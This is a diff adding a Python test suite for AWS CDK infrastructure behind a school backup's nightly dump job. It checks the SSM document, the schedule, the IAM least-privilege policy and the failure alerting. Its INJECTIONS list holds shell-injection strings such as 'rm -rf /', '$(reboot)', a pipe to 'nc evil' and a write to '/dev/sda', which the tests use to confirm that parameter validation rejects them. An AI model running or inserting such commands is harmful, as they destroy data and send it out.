@@ -1,0 +1,423 @@
+"""Dump (issue 5): SSM document with the embedded script, schedule, server policy, failure rule."""
+
+from __future__ import annotations
+
+import json
+import re
+from typing import Any
+
+import pytest
+from aws_cdk.assertions import Match, Template
+
+from infra.dump import PATTERNS, SCRIPT, VARIABLES, check_default, run_command, script_lines
+from tests.infra.conftest import resources_of, synth
+
+ROLE_NAME = "school-web-server-role"
+SECRET_ARN = "arn:aws:secretsmanager:eu-central-2:123456789012:secret:schoolbackup/dump-reader-AbCdEf"
+DETAIL_TYPE = "EC2 Command Invocation Status-change Notification"
+
+
+def only(template: Template, rtype: str, props: dict[str, Any] | None = None) -> tuple[str, dict[str, Any]]:
+    found = template.find_resources(rtype, {"Properties": props} if props else None)
+    assert len(found) == 1, found
+    logical_id, resource = next(iter(found.items()))
+    return logical_id, dict(resource)
+
+
+def document(template: Template) -> dict[str, Any]:
+    _, doc = only(template, "AWS::SSM::Document")
+    content: dict[str, Any] = doc["Properties"]["Content"]
+    return content
+
+
+def dump_schedule(template: Template) -> dict[str, Any]:
+    _, schedule = only(template, "AWS::Scheduler::Schedule", {"Name": Match.string_like_regexp("-dump$")})
+    return schedule
+
+
+def server_policy(template: Template) -> dict[str, Any]:
+    found = [
+        p
+        for p in resources_of(template, "AWS::IAM::Policy").values()
+        if p["Properties"].get("Roles") == [ROLE_NAME]
+    ]
+    assert len(found) == 1, found
+    return found[0]
+
+
+def as_list(value: Any) -> list[Any]:
+    return value if isinstance(value, list) else [value]
+
+
+def joined(value: Any) -> str:
+    """A resource as text: Fn::Join parts concatenated, GetAtt/Ref shown as <Id.Attr>/<Ref>."""
+    if isinstance(value, str):
+        return value
+    if "Fn::Join" in value:
+        return "".join(joined(v) for v in value["Fn::Join"][1])
+    if "Fn::GetAtt" in value:
+        return "<{}.{}>".format(*value["Fn::GetAtt"])
+    if "Ref" in value:
+        return f"<{value['Ref']}>"
+    raise AssertionError(value)
+
+
+# --- document ---
+
+
+def test_document_is_a_schema_2_2_command_with_the_script_embedded(template: Template) -> None:
+    _, doc = only(template, "AWS::SSM::Document")
+    props = doc["Properties"]
+    assert props["DocumentType"] == "Command"
+    assert props["DocumentFormat"] == "JSON"
+    assert props["Name"] == "SchoolBackup-Dump"
+    assert props["UpdateMethod"] == "NewVersion"
+    content = props["Content"]
+    assert content["schemaVersion"] == "2.2"
+    [step] = content["mainSteps"]
+    assert step["action"] == "aws:runShellScript"
+    assert step["inputs"]["timeoutSeconds"] == 120 * 60
+    lines = step["inputs"]["runCommand"]
+    assert lines[0] == "#!/usr/bin/env bash"  # shebang stays first: the agent executes the file
+    body = "\n".join(lines)
+    assert "set -Eeuo pipefail" in body
+    assert "flock -n 9" in body
+    # Every script line is there, in order, after the exports.
+    script = script_lines()
+    assert lines[-len(script) + 1 :] == script[1:]
+
+
+def test_exports_are_single_quoted_document_parameters(template: Template) -> None:
+    content = document(template)
+    lines = content["mainSteps"][0]["inputs"]["runCommand"]
+    exports = [line for line in lines if line.startswith("export SB_")]
+    assert exports == [f"export {var}='{{{{ {param} }}}}'" for param, var in VARIABLES.items()]
+    assert set(content["parameters"]) == set(VARIABLES)
+    # The exports come before the first line that reads a setting.
+    first_read = next(i for i, line in enumerate(lines) if line.startswith('SB_BUCKET="${SB_BUCKET'))
+    assert all(lines.index(e) < first_read for e in exports)
+    assert not any("{{" in line for line in script_lines())
+
+
+def test_every_parameter_has_an_allowed_pattern_and_config_defaults(template: Template) -> None:
+    params = document(template)["parameters"]
+    for name, spec in params.items():
+        assert spec["type"] == "String"
+        assert spec["allowedPattern"] == PATTERNS[name], name
+        assert spec["allowedPattern"].startswith("^") and spec["allowedPattern"].endswith("$"), name
+    assert params["Paths"]["default"] == "/etc /var/www"
+    assert params["DbEngine"]["default"] == "mysql"
+    assert params["DbHost"]["default"] == "school-db.abcdefghijkl.eu-central-2.rds.amazonaws.com"
+    assert params["DbPort"]["default"] == "3306"
+    assert params["DbName"]["default"] == "school"
+    assert params["DbSecretArn"]["default"] == SECRET_ARN
+    assert params["Compression"]["default"] == "gzip"
+    assert params["Prefix"]["default"] == "dumps"
+    assert params["ScheduledTime"]["default"] == ""
+    assert joined(params["Bucket"]["default"]).startswith("<StorageBackupBucket")
+    assert joined(params["KmsKeyArn"]["default"]).startswith("<StorageBackupKey")
+    assert params["Region"]["default"] == {"Ref": "AWS::Region"}
+
+
+GOOD = {
+    "Bucket": ["schoolbackup-123456789012-eu-central-2"],
+    "Prefix": ["dumps", "dumps/test"],
+    "Paths": ["/etc /var/www", "/", "/srv/school-site_2", "/home/a.b@c+d=e:f"],
+    "DbEngine": ["mysql", "postgres", "none"],
+    "DbHost": ["", "school-db.abc.eu-central-2.rds.amazonaws.com", "10.0.0.5", "::1"],
+    "DbPort": ["", "3306", "5432"],
+    "DbName": ["", "school", "wp_site-1"],
+    "DbSecretArn": ["", SECRET_ARN],
+    "Compression": ["gzip", "zstd"],
+    "KmsKeyArn": ["arn:aws:kms:eu-central-2:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab"],
+    "ScheduledTime": ["", "2026-11-27T01:00:00Z", "2026-11-27T01:00Z", "2026-11-27T01:00:00.123Z"],
+    "Region": ["", "eu-central-2", "us-gov-west-1"],
+}
+INJECTIONS = [
+    "/var/www; rm -rf /",
+    "$(reboot)",
+    "`reboot`",
+    "/etc' ; reboot ; '",
+    "/etc\nreboot",
+    "/etc && reboot",
+    "/etc | nc evil 1",
+    "/etc > /dev/sda",
+    "${IFS}reboot",
+    "/etc\\",
+    '/etc"',
+]
+
+
+@pytest.mark.parametrize("param", sorted(PATTERNS))
+def test_allowed_patterns_accept_real_values(param: str) -> None:
+    for value in GOOD[param]:
+        assert re.match(PATTERNS[param], value), (param, value)
+
+
+@pytest.mark.parametrize("param", sorted(PATTERNS))
+@pytest.mark.parametrize("value", INJECTIONS)
+def test_allowed_patterns_reject_shell_injection(param: str, value: str) -> None:
+    # re.fullmatch as well: a multi-line value must not slip through "$" before a trailing newline.
+    assert not re.match(PATTERNS[param], value), (param, value)
+    assert not re.fullmatch(PATTERNS[param].strip("^$"), value), (param, value)
+
+
+def test_other_bad_values_are_rejected() -> None:
+    bad = {
+        "Paths": ["etc", "/etc  /var", "/var/www /tmp/a b", "/a*", "~/x"],
+        "DbEngine": ["MySQL", "sqlite", ""],
+        "Prefix": ["other", "dumps/", "/dumps", "dumps/../x y"],
+        "DbPort": ["3306a", "123456"],
+        "Compression": ["xz", ""],
+        "ScheduledTime": ["2026-11-27 01:00:00", "now", "2026-11-27T01:00:00+01:00"],
+        "Bucket": ["Bad_Bucket", "a"],
+    }
+    for param, values in bad.items():
+        for value in values:
+            assert not re.match(PATTERNS[param], value), (param, value)
+
+
+def test_a_default_that_breaks_its_pattern_fails_synth() -> None:
+    with pytest.raises(ValueError, match="Paths"):
+        check_default("Paths", "/srv/(x)")
+    with pytest.raises(ValueError, match=r"dump document parameter DbName"):
+        synth({"dump": {"db_name": "pay$roll"}})
+
+
+def test_run_command_refuses_a_script_without_shebang_or_with_ssm_braces() -> None:
+    with pytest.raises(ValueError, match="shebang"):
+        run_command(["echo hi"])
+    with pytest.raises(ValueError, match="must not contain"):
+        run_command(["#!/bin/bash", "echo {{ x }}"])
+    assert SCRIPT.name == "schoolbackup-dump.sh"
+
+
+# --- schedule ---
+
+
+def test_schedule_sends_the_document_to_tagged_servers(template: Template) -> None:
+    schedule = dump_schedule(template)
+    props = schedule["Properties"]
+    assert props["ScheduleExpression"] == "cron(0 2 * * ? *)"
+    assert props["ScheduleExpressionTimezone"] == "Europe/Zurich"
+    target = props["Target"]
+    assert target["Arn"] == {
+        "Fn::Join": ["", ["arn:", {"Ref": "AWS::Partition"}, ":scheduler:::aws-sdk:ssm:sendCommand"]]
+    }
+    payload = json.loads(target["Input"])
+    assert payload == {
+        "DocumentName": "SchoolBackup-Dump",
+        "Targets": [{"Key": "tag:Backup", "Values": ["true"]}],
+        "Parameters": {"ScheduledTime": ["<aws.scheduler.scheduled-time>"]},
+        "TimeoutSeconds": 7200,
+        "Comment": "schoolbackup daily dump",
+        "CloudWatchOutputConfig": {
+            "CloudWatchLogGroupName": "/schoolbackup/SchoolBackup/dump",
+            "CloudWatchOutputEnabled": True,
+        },
+        "MaxConcurrency": "1",
+        "MaxErrors": "0",
+    }
+    assert target["DeadLetterConfig"]["Arn"]["Fn::GetAtt"][0].startswith("SchedulesDeadLetterQueue")
+
+
+def scheduler_statements(template: Template) -> list[dict[str, Any]]:
+    role_id = dump_schedule(template)["Properties"]["Target"]["RoleArn"]["Fn::GetAtt"][0]
+    statements: list[dict[str, Any]] = []
+    for policy in resources_of(template, "AWS::IAM::Policy").values():
+        if {"Ref": role_id} in policy["Properties"]["Roles"]:
+            statements += policy["Properties"]["PolicyDocument"]["Statement"]
+    return statements
+
+
+def test_scheduler_role_may_send_only_this_document_to_tagged_instances(template: Template) -> None:
+    by_sid = {s.get("Sid"): s for s in scheduler_statements(template)}
+    assert by_sid["SendDumpDocument"]["Action"] == "ssm:SendCommand"
+    assert joined(by_sid["SendDumpDocument"]["Resource"]) == (
+        "arn:<AWS::Partition>:ssm:<AWS::Region>:<AWS::AccountId>:document/SchoolBackup-Dump"
+    )
+    tagged = by_sid["SendToTaggedInstances"]
+    assert tagged["Action"] == "ssm:SendCommand"
+    assert joined(tagged["Resource"]) == "arn:<AWS::Partition>:ec2:<AWS::Region>:<AWS::AccountId>:instance/*"
+    assert tagged["Condition"] == {"StringEquals": {"ssm:resourceTag/Backup": "true"}}
+    actions = {a for s in scheduler_statements(template) for a in as_list(s["Action"])}
+    assert actions == {"ssm:SendCommand", "sqs:SendMessage", "kms:GenerateDataKey", "kms:Decrypt"}
+
+
+def test_listed_instances_are_targeted_by_id() -> None:
+    ids = ["i-0123456789abcdef0", "i-0fedcba9876543210"]
+    t = synth({"selection": {"ec2_instance_ids": ids}, "schedules": {"dump": "cron(15 1 * * ? *)"}})
+    schedule = dump_schedule(t)
+    assert schedule["Properties"]["ScheduleExpression"] == "cron(15 1 * * ? *)"
+    payload = json.loads(schedule["Properties"]["Target"]["Input"])
+    assert payload["InstanceIds"] == ids
+    assert "Targets" not in payload
+    by_sid = {s.get("Sid"): s for s in scheduler_statements(t)}
+    assert "SendToTaggedInstances" not in by_sid
+    assert [joined(r) for r in by_sid["SendToListedInstances"]["Resource"]] == [
+        f"arn:<AWS::Partition>:ec2:<AWS::Region>:<AWS::AccountId>:instance/{i}" for i in ids
+    ]
+
+
+def test_config_drives_document_and_timeout() -> None:
+    t = synth(
+        {
+            "dump": {
+                "engine": "postgres",
+                "db_port": 5433,
+                "compression": "zstd",
+                "timeout_minutes": 45,
+                "paths": ["/srv/site", "/etc/nginx"],
+            }
+        }
+    )
+    content = document(t)
+    assert content["mainSteps"][0]["inputs"]["timeoutSeconds"] == 45 * 60
+    params = content["parameters"]
+    assert (params["DbEngine"]["default"], params["DbPort"]["default"]) == ("postgres", "5433")
+    assert params["Compression"]["default"] == "zstd"
+    assert params["Paths"]["default"] == "/srv/site /etc/nginx"
+    assert json.loads(dump_schedule(t)["Properties"]["Target"]["Input"])["TimeoutSeconds"] == 45 * 60
+
+
+# --- server policy ---
+
+ALLOWED_SERVER_ACTIONS = {
+    "s3:PutObject",
+    "kms:GenerateDataKey",
+    "kms:Decrypt",
+    "secretsmanager:GetSecretValue",
+    "logs:CreateLogStream",
+    "logs:PutLogEvents",
+    "logs:DescribeLogStreams",
+}
+FORBIDDEN = re.compile(
+    r"^(s3:(Delete|List|PutBucket|PutObjectRetention|PutObjectLegalHold|BypassGovernanceRetention|"
+    r"PutLifecycle|PutObjectTagging|PutObjectAcl|\*)|.*\*$)"
+)
+
+
+def test_server_policy_allows_exactly_the_dump_actions(template: Template) -> None:
+    statements = server_policy(template)["Properties"]["PolicyDocument"]["Statement"]
+    assert all(s["Effect"] == "Allow" for s in statements)
+    actions = {a for s in statements for a in as_list(s["Action"])}
+    assert actions == ALLOWED_SERVER_ACTIONS
+    assert not [a for a in actions if FORBIDDEN.match(a)]
+    by_sid = {s["Sid"]: s for s in statements}
+
+    s3_statements = [s for s in statements if any(a.startswith("s3:") for a in as_list(s["Action"]))]
+    s3_resources = [joined(r) for s in s3_statements for r in as_list(s["Resource"])]
+    assert len(s3_resources) == 1
+    assert re.fullmatch(r"<StorageBackupBucket[0-9A-F]{8}\.Arn>/dumps/\*", s3_resources[0]), s3_resources
+    assert by_sid["AddDumpObjects"]["Action"] == "s3:PutObject"
+    assert "Condition" not in by_sid["AddDumpObjects"]
+
+    kms = by_sid["EncryptDumpObjects"]
+    assert sorted(kms["Action"]) == ["kms:Decrypt", "kms:GenerateDataKey"]
+    assert joined(kms["Resource"]).startswith("<StorageBackupKey")
+    assert joined(kms["Condition"]["StringEquals"]["kms:ViaService"]) == "s3.<AWS::Region>.amazonaws.com"
+
+    assert by_sid["ReadDbSecret"] == {
+        "Sid": "ReadDbSecret",
+        "Effect": "Allow",
+        "Action": "secretsmanager:GetSecretValue",
+        "Resource": SECRET_ARN,
+    }
+    logs = by_sid["WriteCommandOutput"]
+    assert sorted(joined(r) for r in logs["Resource"]) == sorted(
+        [
+            f"<{_log_group_id(template)}.Arn>",
+            f"<{_log_group_id(template)}.Arn>:log-stream:*",
+        ]
+    )
+
+
+def _log_group_id(template: Template) -> str:
+    log_id, _ = only(template, "AWS::Logs::LogGroup", {"LogGroupName": "/schoolbackup/SchoolBackup/dump"})
+    return log_id
+
+
+def test_no_s3_resource_outside_dumps_and_no_wildcard_action(template: Template) -> None:
+    text = json.dumps(server_policy(template))
+    assert "s3:*" not in text and '"*"' not in text
+    assert text.count("s3:") == 1
+
+
+def test_log_group_has_retention(template: Template) -> None:
+    template.has_resource_properties(
+        "AWS::Logs::LogGroup", {"LogGroupName": "/schoolbackup/SchoolBackup/dump", "RetentionInDays": 90}
+    )
+
+
+def test_outputs_name_the_document_and_log_group(template: Template) -> None:
+    values = {o["Value"] for o in template.to_json()["Outputs"].values() if isinstance(o["Value"], str)}
+    assert {"SchoolBackup-Dump", "/schoolbackup/SchoolBackup/dump"} <= values
+
+
+# --- failure rule ---
+
+
+def test_failed_dump_commands_go_to_the_alarm_topic(template: Template) -> None:
+    _, rule = only(template, "AWS::Events::Rule", {"EventPattern": {"source": ["aws.ssm"]}})
+    props = rule["Properties"]
+    assert props["EventPattern"] == {
+        "source": ["aws.ssm"],
+        "detail-type": [DETAIL_TYPE],
+        "detail": {"document-name": ["SchoolBackup-Dump"], "status": ["Failed", "TimedOut", "Cancelled"]},
+    }
+    [target] = props["Targets"]
+    assert target["Arn"]["Ref"].startswith("AlarmsTopic")
+    transformer = target["InputTransformer"]
+    assert transformer["InputPathsMap"] == {
+        "detail-instance-id": "$.detail.instance-id",
+        "detail-status": "$.detail.status",
+        "detail-command-id": "$.detail.command-id",
+    }
+    message = transformer["InputTemplate"]
+    for part in (
+        "<detail-instance-id>",
+        "<detail-status>",
+        "<detail-command-id>",
+        "SchoolBackup-Dump",
+        "/schoolbackup/SchoolBackup/dump",
+        "last line of the log says which step failed",
+    ):
+        assert part in message, part
+    # Every <placeholder> must be defined, or EventBridge rejects the target.
+    assert set(re.findall(r"<([^<>]+)>", message)) <= set(transformer["InputPathsMap"])
+
+
+def test_events_may_publish_to_the_encrypted_topic(template: Template) -> None:
+    _, policy = only(template, "AWS::SNS::TopicPolicy")
+    publishers = set()
+    for statement in policy["Properties"]["PolicyDocument"]["Statement"]:
+        if statement["Effect"] == "Allow" and statement["Action"] == "sns:Publish":
+            publishers |= set(as_list(statement["Principal"].get("Service", [])))
+    assert "events.amazonaws.com" in publishers
+    key = next(iter(resources_of(template, "AWS::KMS::Key").values()))
+    key_users = [
+        s
+        for s in key["Properties"]["KeyPolicy"]["Statement"]
+        if "events.amazonaws.com" in as_list(s["Principal"].get("Service", []))
+    ]
+    assert key_users and "kms:GenerateDataKey*" in {a for s in key_users for a in as_list(s["Action"])}
+
+
+# --- disabled ---
+
+
+def test_disabled_dump_creates_nothing() -> None:
+    t = synth({"dump": {"enabled": False}})
+    t.resource_count_is("AWS::SSM::Document", 0)
+    assert not t.find_resources(
+        "AWS::Scheduler::Schedule", {"Properties": {"Name": Match.string_like_regexp("-dump$")}}
+    )
+    assert not [
+        p for p in resources_of(t, "AWS::IAM::Policy").values() if p["Properties"].get("Roles") == [ROLE_NAME]
+    ]
+    assert not t.find_resources(
+        "AWS::Events::Rule", {"Properties": {"EventPattern": {"source": ["aws.ssm"]}}}
+    )
+    assert not t.find_resources(
+        "AWS::Logs::LogGroup", {"Properties": {"LogGroupName": "/schoolbackup/SchoolBackup/dump"}}
+    )
